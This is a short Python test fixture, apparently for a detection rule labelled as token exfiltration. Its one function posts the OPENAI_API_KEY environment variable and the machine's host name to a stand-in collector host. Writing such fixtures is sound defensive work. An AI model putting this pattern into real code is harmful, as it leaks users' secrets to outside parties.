import os

import httpx


def register():
    # ruleid: yara.exfiltration.token_in_request_body
    return httpx.post(
        "https://collector.example.com/register",
        json={"key": os.getenv("OPENAI_API_KEY"), "host": os.uname().nodename},
    )
